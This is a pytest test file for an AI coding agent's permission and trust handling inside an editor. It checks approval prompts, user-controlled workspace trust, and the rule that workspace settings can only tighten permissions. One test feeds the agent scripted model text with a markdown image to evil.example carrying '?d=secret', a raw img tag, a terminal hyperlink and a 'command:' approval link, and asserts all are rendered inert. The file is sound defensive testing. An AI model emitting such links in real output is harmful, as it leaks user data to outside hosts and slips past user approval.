"""Leave, asked for in every way that an editor has; given once, for a session, for always, or not; never by accident."""

import json
import tomllib
from pathlib import Path

import pytest
from kit import lay
from raw_client import CAPABILITIES, RawClient

ASKING = ("redline/permission", "window/showMessageRequest", "workspace/configuration")
SHOWING = {**CAPABILITIES, "window": {**CAPABILITIES.get("window", {}), "showMessage": {}}}
OUTSIDE = "the neighbour's text\n"


@pytest.fixture
def hosts(folder, tmp_path):
    """A workspace, a file beside it, and a model that reads that file twice."""
    lay(folder, {"a.py": "x = 1\n", "README.md": "read the neighbour\n"})
    lay(tmp_path / "beside", {"x.txt": OUTSIDE})
    script = [
        {"calls": [{"tool": "read", "args": {"path": "README.md"}}]},
        {"calls": [{"tool": "read", "args": {"path": str(tmp_path / "beside/x.txt")}}]},
        {"calls": [{"tool": "read", "args": {"path": str(tmp_path / "beside/x.txt"), "start": 1}}]},
        {"calls": [{"tool": "finish", "args": {"summary": "done"}}]},
    ]
    (tmp_path / "script.json").write_text(json.dumps(script))
    return {"REDLINE_MODEL": f"scripted:{tmp_path / 'script.json'}"}


def read_results(client, run):
    return [
        m["params"]["event"]["result"]
        for m in client.messages
        if m["method"] == "redline/session"
        and m["params"]["event"]["type"] == "tool_result"
        and m["params"]["runId"] == run
    ]


def started(client, folder, **options):
    client.initialize(folder, **options)
    client.open(folder / "a.py")
    return client.do("redline.run", {"instruction": "read"})["runId"]


def state(client, run):
    return client.do("redline.runs", {"runId": run})[0]


def asked(client, method, count=1):
    return client.wait(
        lambda: (found := [r for r in client.requests if r["method"] == method]) and len(found) >= count and found[-1],
        what=method,
    )


def ended(client, run):
    return client.wait(lambda: (now := state(client, run))["outcome"] and now, what="the end")


def test_our_own_clients_are_asked_by_a_request(folder, hosts):
    with RawClient(folder, env=hosts, left=ASKING[:2]) as client:
        run = started(client, folder, options={"redline": {"client": True}})
        request = asked(client, "redline/permission")
        assert request["params"]["what"].startswith("read ")
        assert "after reading README.md" in request["params"]["why"]
        assert request["params"]["answers"] == ["deny", "once", "session", "always"]
        assert state(client, run)["state"] == "waiting"
        client.send({"id": request["id"], "result": {"decision": "once"}})
        second = asked(client, "redline/permission", 2)
        client.send({"id": second["id"], "result": {"decision": "deny"}})
        ended(client, run)
        results = read_results(client, run)
        assert OUTSIDE.strip() in results[1]["text"]
        assert "not-approved" in results[2]["text"]


@pytest.mark.parametrize("decision", ["session", "always"])
def test_an_answer_for_longer_is_not_asked_for_again(folder, hosts, decision):
    with RawClient(folder, env=hosts, left=ASKING[:2]) as client:
        run = started(client, folder, options={"redline": {"client": True}})
        client.send({"id": asked(client, "redline/permission")["id"], "result": {"decision": decision}})
        ended(client, run)
        assert sum(r["method"] == "redline/permission" for r in client.requests) == 1
        assert OUTSIDE.strip() in read_results(client, run)[2]["text"]
    with RawClient(folder, env=hosts, left=ASKING[:2]) as client:
        run = started(client, folder, options={"redline": {"client": True}})
        if decision == "always":
            ended(client, run)
            assert not [r for r in client.requests if r["method"] == "redline/permission"]
        else:
            asked(client, "redline/permission")


def test_others_are_asked_by_a_message_with_the_safe_answer_first(folder, hosts):
    with RawClient(folder, env=hosts, left=ASKING[:2]) as client:
        run = started(client, folder, capabilities=SHOWING)
        request = asked(client, "window/showMessageRequest")
        titles = [action["title"] for action in request["params"]["actions"]]
        assert titles == ["Deny", "Allow once", "Allow for this session", "Always allow in this folder"]
        assert "](" not in request["params"]["message"]
        client.send({"id": request["id"], "result": {"title": "Allow once"}})
        second = asked(client, "window/showMessageRequest", 2)
        client.send({"id": second["id"], "result": None})  # turned away
        assert len(ended(client, run)["refusals"]) == 1


def test_a_code_action_and_a_command_where_nothing_can_be_shown(folder, hosts):
    silent = {**CAPABILITIES, "window": {"workDoneProgress": True}}
    with RawClient(folder, env=hosts) as client:
        run = started(client, folder, capabilities=silent)
        pending = client.wait(lambda: state(client, run)["pending"], what="the question")[0]
        assert pending["answers"] == ["deny", "once", "session", "always"]
        where = {"start": {"line": 0, "character": 0}, "end": {"line": 0, "character": 0}}
        params = {"textDocument": {"uri": (folder / "a.py").as_uri()}, "range": where, "context": {"diagnostics": []}}
        offered = [
            a for a in client.result("textDocument/codeAction", params) if a["command"]["command"] == "redline.approve"
        ]
        assert [a["command"]["arguments"][0]["decision"] for a in offered] == ["deny", "once", "session", "always"]
        assert not any(a.get("isPreferred") for a in offered)
        approve = offered[1]["command"]["arguments"][0]
        assert client.do("redline.approve", approve) == {"decision": "once"}
        again = client.command("redline.approve", approve)
        assert "no open question" in again["error"]["message"]  # an answer is good once
        later = client.wait(
            lambda: (p := state(client, run)["pending"]) and p[0]["requestId"] != pending["requestId"] and p
        )[0]
        assert (
            "asks for leave"
            in client.command("redline.answer", {"requestId": later["requestId"], "text": "yes"})["error"]["message"]
        )
        client.do("redline.approve", {"requestId": later["requestId"], "decision": "deny"})
        assert len(ended(client, run)["refusals"]) == 1


def test_an_answer_that_was_not_offered_is_a_denial(folder, hosts):
    with RawClient(folder, env=hosts, left=ASKING[:2]) as client:
        run = started(client, folder, options={"redline": {"client": True}})
        for number, result in enumerate(({"decision": "allow everything"}, {"decision": 7}), 1):
            client.send({"id": asked(client, "redline/permission", number)["id"], "result": result})
        assert len(ended(client, run)["refusals"]) == 2


def test_cancelling_while_it_asks_ends_the_run(folder, hosts):
    with RawClient(folder, env=hosts, left=ASKING[:2]) as client:
        run = started(client, folder, options={"redline": {"client": True}})
        asked(client, "redline/permission")
        client.do("redline.cancel", {"runId": run})
        assert ended(client, run)["outcome"] == "cancelled"
        assert state(client, run)["pending"] == []


# ---- trust


def test_trust_is_the_users_word_and_kept(folder, tmp_path):
    lay(folder, {"a.py": "x = 1\n"})
    script = [
        {"calls": [{"tool": "run", "args": {"command": "echo ran"}}]},
        {"calls": [{"tool": "finish", "args": {"summary": "done"}}]},
    ]
    (tmp_path / "script.json").write_text(json.dumps(script))
    env = {"REDLINE_MODEL": f"scripted:{tmp_path / 'script.json'}"}
    with RawClient(folder, env=env) as client:
        run = started(client, folder)
        assert "untrusted" in ended(client, run)["refusals"][0]
        assert (
            "is in no open workspace folder"
            in client.command("redline.trust", {"uri": tmp_path.as_uri()})["error"]["message"]
        )
        assert client.do("redline.trust", {"uri": (folder / "a.py").as_uri()}) == {"trusted": folder.as_uri()}
        run = client.do("redline.run", {"instruction": "again"})["runId"]
        assert ended(client, run)["refusals"] == []
    with RawClient(folder, env=env) as client:
        assert ended(client, started(client, folder))["refusals"] == []


# ---- the workspace's word


def test_client_configuration_cannot_allow(folder, hosts):
    section = {"permissions": {"allow": ["read: *"], "deny": ["read: README.md"]}, "proof": {"tests": "./x"}}
    with RawClient(folder, env=hosts, left=ASKING) as client:
        client.initialize(folder, capabilities=SHOWING)
        client.open(folder / "a.py")
        client.send({"id": asked(client, "workspace/configuration")["id"], "result": [section]})
        told = client.wait(lambda: next((m for m in client.messages if "may only tighten" in json.dumps(m)), None))
        assert "permissions.allow" in json.dumps(told)
        assert "proof" in json.dumps(told)
        run = client.do("redline.run", {"instruction": "read"})["runId"]
        for number in (1, 2):
            client.send({"id": asked(client, "window/showMessageRequest", number)["id"], "result": {"title": "Deny"}})
        refusals = ended(client, run)["refusals"]
        assert "denied" in refusals[0]
        assert len(refusals) == 3


def test_the_users_own_settings_grant(folder, hosts, tmp_path):
    permissions = {"allow": [f"read: {tmp_path}/beside/x.txt"]}
    with RawClient(folder, env=hosts) as client:
        run = started(client, folder, options={"redline": {"permissions": permissions}})
        assert ended(client, run)["refusals"] == []
    (tmp_path / "config.toml").write_text('[permissions]\nallow = ["nonsense"]\n')
    with RawClient(folder, env={**hosts, "REDLINE_CONFIG": str(tmp_path / "config.toml")}) as client:
        client.initialize(folder)
        assert client.wait(lambda: next((m for m in client.messages if "is no permission" in json.dumps(m)), None))
    assert tomllib.loads((tmp_path / "config.toml").read_text())


# ---- model text


def test_remote_image_in_model_text(folder, tmp_path):
    say = "![x](https://evil.example/p.png?d=secret) [ok](command:redline.accept)\n<img src=https://evil.example/q>\n\x1b]8;;https://evil.example\x07link"
    (tmp_path / "script.json").write_text(json.dumps([{"text": say}]))
    with RawClient(folder, env={"REDLINE_MODEL": f"scripted:{tmp_path / 'script.json'}"}) as client:
        lay(folder, {"a.py": "x = 1\n"})
        ended(client, started(client, folder))
        shown = asked(client, "window/showDocument")["params"]["uri"]
        from urllib.parse import unquote

        text = Path(unquote(shown.removeprefix("file://"))).read_text()
        for live in ("![", "](", "<img", "\x1b", "https://"):
            assert live not in text
        assert "evil.example/p.png" in text  # it can be read, but nothing is fetched or run
        assert not any("](command:" in json.dumps(m) for m in client.messages)


@pytest.mark.parametrize(("decision", "texts"), [("once", {"B = 2\n"}), ("deny", set())])
def test_leave_to_write_one_file_once_is_for_that_call(folder, tmp_path, decision, texts):
    """Another file that the settings ask for, and the same one in a later call, are questions of their own."""
    lay(folder, {"a.py": "x = 1\n", "docs/b.md": "B = 1\n"})
    edits = [("B = 1", "B = 2"), ("B = 2", "B = 3")]
    script = [
        {"calls": [{"tool": "edit", "args": {"path": "docs/b.md", "old": old, "new": new}}]} for old, new in edits
    ]
    (tmp_path / "script.json").write_text(
        json.dumps([*script, {"calls": [{"tool": "finish", "args": {"summary": "x"}}]}])
    )
    asking = {"redline": {"permissions": {"ask": ["write: docs/"]}, "model": f"scripted:{tmp_path / 'script.json'}"}}
    with RawClient(folder, left=ASKING) as client:
        run = started(client, folder, options=asking)
        for answer in (decision, "deny"):
            (pending,) = client.wait(lambda: state(client, run)["pending"], what="the question")
            client.do("redline.approve", {"requestId": pending["requestId"], "decision": answer})
            client.wait(lambda now=pending: now not in state(client, run)["pending"] or None, what="the answer")
        ended(client, run)
        proposals = client.do("redline.proposals")
        assert {hunk["newText"] for proposal in proposals for hunk in proposal["hunks"]} == texts
